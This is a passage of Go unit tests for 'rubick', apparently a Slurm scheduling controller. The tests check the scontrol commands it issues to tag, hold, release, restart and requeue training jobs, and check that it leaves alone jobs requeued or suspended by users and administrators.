		"tag keeps older ones": {comment: "rubick:requeue rubick:mail=begin", ac: "rubick:v1 model=gpt2 mail=requeue,end", tagMail: "requeue,end",
			want: []string{"AdminComment=rubick:v1 model=gpt2 plan=dp2.tp1.pp1.mb1.a1.z0 gen=2 mail=begin rc=0", "Comment="}},
		"malformed": {comment: "rubick:mail=BEGIN,END; rubick:requeue",
			want: []string{"AdminComment=rubick:v1 model=gpt2 plan=dp2.tp1.pp1.mb1.a1.z0 gen=2 rc=0", "Comment="}},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			j := pendingHeld(7)
			j.Comment, j.AdminComment = tc.comment, tc.ac
			if tc.ac != "" {
				jt, err := ParseTag(tc.ac)
				if err != nil {
					t.Fatal(err)
				}
				j.Tag = &jt
			}
			tag := *tag
			if tc.tagMail != "" {
				tag.Extra = map[string]string{TagMail: tc.tagMail}
			}
			f := newApplierFixture(t, map[int][]Job{7: {j}}, nil)
			if res := f.app.ApplyOne(context.Background(), Action{Kind: ActionAnnotate, JobID: 7, Tag: &tag}); res.Err != nil {
				t.Fatalf("Err = %v; steps %+v", res.Err, res.Steps)
			}
			// The Comment after the tag, in an update of its own (updateTag).
			var want [][]string
			for _, a := range tc.want {
				want = append(want, []string{"/usr/bin/scontrol", "update", "JobId=7", a})
			}
			if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
				t.Errorf("argv (-want +got):\n%s", diff)
			}
		})
	}
}

// The class in the tag rubick writes is the one the job has when it is
// written: job_submit.lua changes it at a new QOS or account, which may
// come after the cycle that built the action read the job.
func TestApplyKeepsJobsClass(t *testing.T) {
	j := pendingHeld(7)
	j.AdminComment = "rubick:v1 model=gpt2 class=guaranteed"
	j.Tag = &Tag{ModelType: "gpt2", Class: ClassGuaranteed}
	f := newApplierFixture(t, map[int][]Job{7: {j}}, nil)
	stale := &Tag{ModelType: "gpt2", Class: ClassBestEffort, Plan: "dp2.tp1.pp1.mb1.a1.z0", Generation: 1}
	if res := f.app.ApplyOne(context.Background(), Action{Kind: ActionAnnotate, JobID: 7, Tag: stale}); res.Err != nil {
		t.Fatal(res.Err)
	}
	want := [][]string{{"/usr/bin/scontrol", "update", "JobId=7", "AdminComment=rubick:v1 model=gpt2 class=guaranteed plan=dp2.tp1.pp1.mb1.a1.z0 gen=1 rc=0"}}
	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
		t.Errorf("argv (-want +got):\n%s", diff)
	}
}

// A job an administrator suspends while rubick waits for its checkpoint
// is not requeued: it could not checkpoint, and a requeue would end the
// suspension. The action fails; resumed, the job finishes the checkpoint.
func TestApplyRestartSuspendedDuringWait(t *testing.T) {
	suspended := running(32, "node2", "node3")
	suspended.State = StateSuspended
	f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), suspended}}, func(c *ApplierConfig) {
		c.WaitCheckpoint = func(ctx context.Context, j Job) error { return nil }
	})
	res := f.app.ApplyOne(context.Background(), restartAction())
	if !errors.Is(res.Err, ErrJobState) || !strings.Contains(res.Err.Error(), "suspended") {
		t.Errorf("Err = %v, want ErrJobState saying it was suspended", res.Err)
	}
	if diff := cmp.Diff(restartArgv("1")[:2], f.runner.Calls()); diff != "" {
		t.Errorf("argv (-want +got):\n%s", diff)
	}
}

// With an Instance, every tag the Applier writes names it (by=): the tag
// of a start and the one a time limit goes with.
func TestApplyTagNamesInstance(t *testing.T) {
	const by = "ctl1/4242/2026-11-29T09:00:00Z"
	f := newApplierFixture(t, map[int][]Job{33: {pendingHeld(33)}, 5: {running(5, "node1")}}, func(c *ApplierConfig) { c.Instance = by })
	if res := f.app.ApplyOne(context.Background(), Action{Kind: ActionStart, JobID: 33, NumNodes: 1, CPUsPerTask: 2, Tag: planTag}); res.Err != nil {
		t.Fatal(res.Err)
	}
	tag := Tag{ModelType: "gpt2", Generation: 1, Extra: map[string]string{TagBy: "ctl9/1/2026-11-28T09:00:00Z"}}
	if res := f.app.ApplyOne(context.Background(), Action{Kind: ActionTimeLimit, JobID: 5, TimeLimit: 96 * time.Minute, Tag: &tag}); res.Err != nil {
		t.Fatal(res.Err)
	}
	want := [][]string{
		{"/usr/bin/scontrol", "update", "JobId=33", "NumNodes=1-1", "NumTasks=1", "CPUsPerTask=2", "MinCPUsNode=2", "NumCPUs=2"},
		{"/usr/bin/scontrol", "update", "JobId=33", planTagAC + " by=" + by + " rc=0"},
		{"/usr/bin/scontrol", "release", "33"},
		{"/usr/bin/scontrol", "update", "JobId=5", "TimeLimit=96", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 gen=1 by=" + by + " rc=0"},
	}
	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
		t.Errorf("argv (-want +got):\n%s", diff)
	}
}

// A job its user or an administrator requeued held (scontrol requeuehold)
// since the cycle read it running, before the signal or during the
// checkpoint wait, stays theirs: a preemption or restart writes no tag that
// would take their requeue for rubick's, and releases nothing.
func TestApplyRequeueLeavesOthersRequeue(t *testing.T) {
	byHand := requeued(32)
	byHand.AdminComment = "model_type=gpt2;rubick:v1 model=gpt2 rc=0"
	byHand.Tag, _ = TagFromAdminComment(byHand.AdminComment)
	byHand.Reason = "JobHeldUser"
	tests := map[string]struct {
		states []Job
		want   [][]string
	}{
		"before the signal":          {[]Job{byHand}, nil},
		"during the checkpoint wait": {[]Job{running(32, "node2", "node3"), byHand}, restartArgv("1")[:2]},
	}
	for name, tc := range tests {
		for _, act := range []Action{restartAction(), {Kind: ActionPreempt, JobID: 32, Tag: planTag}} {
			t.Run(name+"/"+string(act.Kind), func(t *testing.T) {
				f := newApplierFixture(t, map[int][]Job{32: slices.Clone(tc.states)}, func(c *ApplierConfig) {
					c.WaitCheckpoint = func(ctx context.Context, j Job) error { return nil }
				})
				res := f.app.ApplyOne(context.Background(), act)
				if !errors.Is(res.Err, ErrJobState) || !strings.Contains(res.Err.Error(), "requeued") {
					t.Errorf("Err = %v, want ErrJobState saying someone else requeued it", res.Err)
				}
				if diff := cmp.Diff(tc.want, f.runner.Calls()); diff != "" {
					t.Errorf("argv (-want +got):\n%s", diff)
				}
			})
		}
	}
}

// A job found requeued already, by rubick-srun since the cycle read it,
// may have been requeued within the second: the restart still waits
// ReleaseDelay before StartTime=now and the release, which in the
// requeue's second would fail the job for good (Job credential revoked).
func TestApplyRestartFoundRequeuedWaits(t *testing.T) {
	self := requeued(32)
	self.Comment = RequeueWord
	f := newApplierFixture(t, map[int][]Job{32: {self}}, nil)
	f.runner.onRun = func(argv []string) {
		if slices.Contains(argv, "StartTime=now") && f.clock.Now().Sub(newFakeClock().Now()) < 2*time.Second {
			t.Errorf("StartTime=now %v after the job was found requeued; want >= 2s", f.clock.Now().Sub(newFakeClock().Now()))
		}
	}
	res := f.app.ApplyOne(context.Background(), restartAction())
	if res.Err != nil {
		t.Fatalf("Err = %v; steps %+v", res.Err, res.Steps)
	}
	if calls := f.runner.Calls(); !slices.ContainsFunc(calls, func(c []string) bool { return slices.Contains(c, "release") }) {
		t.Errorf("argv %q; want a release", calls)
	}
}

// A job someone else requeued held since the cycle read it is theirs: an
// action that would write rubick's tag on it would count their requeue
// as rubick's (the restart count) and leave it to be released. Only the
// mark that it is held by them (Hold) is written.
func TestApplyRequeuedByOtherSinceTheCycle(t *testing.T) {
	theirs := func() Job {
		j := requeued(7)
		j.RestartCount = 2
		j.AdminComment = "model_type=gpt2;rubick:v1 model=gpt2 gen=1 rc=1"
		j.Tag = &Tag{ModelType: "gpt2", Generation: 1, Extra: map[string]string{TagRestarts: "1"}}
		return j
	}
	tag := &Tag{ModelType: "gpt2", Generation: 2}
	for _, act := range []Action{
		{Kind: ActionAnnotate, JobID: 7, Tag: tag},
		{Kind: ActionAnnotate, JobID: 7, Tag: tag, MailType: "BEGIN,END"},
		{Kind: ActionTimeLimit, JobID: 7, TimeLimit: time.Hour, Tag: tag},
		{Kind: ActionTimeLimit, JobID: 7, TimeLimit: time.Hour},
		{Kind: ActionRelease, JobID: 7, Tag: tag},
		{Kind: ActionStart, JobID: 7, Nodes: []string{"node1"}, GPUsPerNode: 1, CPUsPerTask: 1, MemPerNodeMB: 1000, Tag: tag},
	} {
		f := newApplierFixture(t, map[int][]Job{7: {theirs()}}, nil)
		res := f.app.ApplyOne(context.Background(), act)
		if !errors.Is(res.Err, ErrJobState) || len(f.runner.Calls()) != 0 {
			t.Errorf("%s (tag %t): Err = %v, calls %q; want ErrJobState and no command", act.Kind, act.Tag != nil, res.Err, f.runner.Calls())
		}
	}
	f := newApplierFixture(t, map[int][]Job{7: {theirs()}}, nil)
	res := f.app.ApplyOne(context.Background(), Action{Kind: ActionAnnotate, JobID: 7, Tag: tag, Hold: true})
	if res.Err != nil {
		t.Fatal(res.Err)
	}
	want := [][]string{
		{"/usr/bin/scontrol", "update", "JobId=7", "Comment=rubick:hold"},
		{"/usr/bin/scontrol", "update", "JobId=7", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 gen=2 rc=2"},
	}
	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
		t.Errorf("the hold's mark: argv (-want +got):\n%s", diff)
	}
	// Released, or requeued by rubick-srun (its mark), since the cycle read
	// it: no one's hold to mark, and the mark would stay.
	released := theirs()
	released.Held, released.Reason = false, "None"
	srun := theirs()
	srun.Comment = RequeueWord
	for _, j := range []Job{released, srun} {
		f = newApplierFixture(t, map[int][]Job{7: {j}}, nil)
		if res := f.app.ApplyOne(context.Background(), Action{Kind: ActionAnnotate, JobID: 7, Tag: tag, Hold: true}); !errors.Is(res.Err, ErrJobState) || len(f.runner.Calls()) != 0 {
			t.Errorf("hold of a job held %t, comment %q: Err = %v, calls %q; want ErrJobState and no command", j.Held, j.Comment, res.Err, f.runner.Calls())
		}
	}
	// rubick's own requeue, its tag not written yet, reads the same: the
	// acknowledgement writes it.
	f = newApplierFixture(t, map[int][]Job{7: {theirs()}}, nil)
	if res := f.app.ApplyOne(context.Background(), Action{Kind: ActionAnnotate, JobID: 7, Tag: tag, Acknowledge: true}); res.Err != nil {
		t.Fatal(res.Err)
	}
	if diff := cmp.Diff(want[1:], f.runner.Calls()); diff != "" {
		t.Errorf("the acknowledgement: argv (-want +got):\n%s", diff)
	}
}

// rubick-srun marks its job's Comment before it requeues the job itself: a
// tag written on the running job in between (a time limit, a mail
// give-back's retry) keeps the mark, or the requeue would read as someone
// else's and the job wait for a release by hand.
func TestApplyTagKeepsRunningJobsRequeueMark(t *testing.T) {
	j := running(5, "node1")
	j.Comment = "my note rubick:requeue rubick:mail=begin,end"
	tag := &Tag{ModelType: "gpt2", Generation: 1}
	for _, act := range []Action{
		{Kind: ActionAnnotate, JobID: 5, Tag: tag},
		{Kind: ActionTimeLimit, JobID: 5, Tag: tag, TimeLimit: time.Hour},
	} {
		f := newApplierFixture(t, map[int][]Job{5: {j}}, nil)
		if res := f.app.ApplyOne(context.Background(), act); res.Err != nil {
			t.Fatal(res.Err)
		}
		for _, got := range f.runner.Calls() {
			if c := slices.IndexFunc(got, func(a string) bool { return strings.HasPrefix(a, "Comment=") }); c >= 0 && !HasWord(got[c], RequeueWord) {
				t.Errorf("%s: %q takes out the requeue mark", act.Kind, got)
			}
		}
	}
}

// rubick-srun quieted the job's mail and requeued it itself (its Comment's
// rubick:requeue and rubick:mail=begin,end) while rubickd restarts it: the
// tag that acknowledges the requeue takes the word out and keeps the mail
// types, and so must the restart's own tag after it, or the job never
// gets BEGIN and REQUEUE back.
func TestApplyRestartKeepsSrunMailRecord(t *testing.T) {
	comment := "rubick:requeue rubick:mail=begin,end"
	run := running(32, "node2", "node3")
	run.Comment = comment
	run.AdminComment = "rubick:v1 model=gpt2 gen=1 rc=0"
	run.Tag, _ = TagFromAdminComment(run.AdminComment)
	req := requeued(32)
	req.Comment, req.AdminComment, req.Tag = comment, run.AdminComment, run.Tag
	acked := req
	acked.Comment = ""
	acked.AdminComment = "rubick:v1 model=gpt2 gen=1 mail=begin,end rc=1"
	acked.Tag, _ = TagFromAdminComment(acked.AdminComment)
	f := newApplierFixture(t, map[int][]Job{32: {run, req, req, acked}}, func(c *ApplierConfig) {
		c.WaitCheckpoint = func(ctx context.Context, j Job) error { return nil }
	})
	f.runner.out = []byte("JobId=32 MailType=END\n")
	act := restartAction()
	act.Tag = &Tag{ModelType: "gpt2", Plan: "dp8.tp1.pp1.mb1.a1.z0", Generation: 2}
	if res := f.app.ApplyOne(context.Background(), act); res.Err != nil {
		t.Fatalf("Err = %v", res.Err)
	}
	var last string
	for _, c := range f.runner.Calls() {
		for _, a := range c {
			if strings.HasPrefix(a, "AdminComment=") {
				last = a
			}
		}
	}
	if !strings.Contains(last, "mail=begin,end") {
		t.Errorf("last tag %q: want the mail types rubick-srun quieted (mail=begin,end)", last)
	}
}

// The read after the checkpoint wait fails: the job may have been
// cancelled meanwhile, which a requeuehold would bring back, so nothing
// is requeued; the next cycle decides on what it reads.
func TestApplyNoRequeueAfterFailedRead(t *testing.T) {
	f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3")}}, nil)
	f.app.cfg.WaitCheckpoint = func(ctx context.Context, j Job) error {
		f.cluster.mu.Lock()
		f.cluster.err = ErrUnavailable
		f.cluster.mu.Unlock()
		return nil
	}
	res := f.app.ApplyOne(context.Background(), restartAction())
	if !errors.Is(res.Err, ErrUnavailable) {
		t.Errorf("Err = %v, want ErrUnavailable", res.Err)
	}
	for _, c := range f.runner.Calls() {
		if len(c) > 1 && c[1] == "requeuehold" {
			t.Errorf("%q ran though the job was not read after the checkpoint wait", c)
		}
	}
}

// A requeue's restart count goes to Action.BeforeRequeue before the
// requeue is issued, and comes back in the result; when it cannot be
// recorded, the job is not requeued: a crash after an unrecorded requeue
// would leave rubick unable to tell it from its user's.
func TestApplyRecordsRequeueFirst(t *testing.T) {
	errStore := errors.New("database is locked")
	for name, fail := range map[string]bool{"recorded": false, "not recorded": true} {
		t.Run(name, func(t *testing.T) {
			run := running(32, "node2", "node3")
			run.RestartCount = 2
			after := requeued(32)
			after.RestartCount = 3
			f := newApplierFixture(t, map[int][]Job{32: {run, run, after}}, nil)
			act := restartAction()
			var got []int
			var ranBefore [][]string
			act.BeforeRequeue = func(_ context.Context, n int, _ *Tag) error {
				got, ranBefore = append(got, n), f.runner.Calls()
				if fail {
					return errStore
				}
				return nil
			}
			res := f.app.ApplyOne(context.Background(), act)
			if d := cmp.Diff([]int{3}, got); d != "" {
				t.Errorf("BeforeRequeue's counts (-want +got):\n%s", d)
			}
			for _, c := range ranBefore {
				if slices.Contains(c, "requeuehold") {
					t.Errorf("%q ran before BeforeRequeue", c)
				}
			}
			requeued := slices.ContainsFunc(f.runner.Calls(), func(c []string) bool { return slices.Contains(c, "requeuehold") })
			switch {
			case fail && (!errors.Is(res.Err, errStore) || requeued || res.RequeueCount != 0 || res.MayHaveRequeued()):
				t.Errorf("Err = %v, requeued %t, RequeueCount %d; want the store's error, no requeue", res.Err, requeued, res.RequeueCount)
			case !fail && (res.Err != nil || !requeued || res.RequeueCount != 3):
				t.Errorf("Err = %v, requeued %t, RequeueCount %d; want a requeue giving count 3", res.Err, requeued, res.RequeueCount)
			}
		})
	}
}
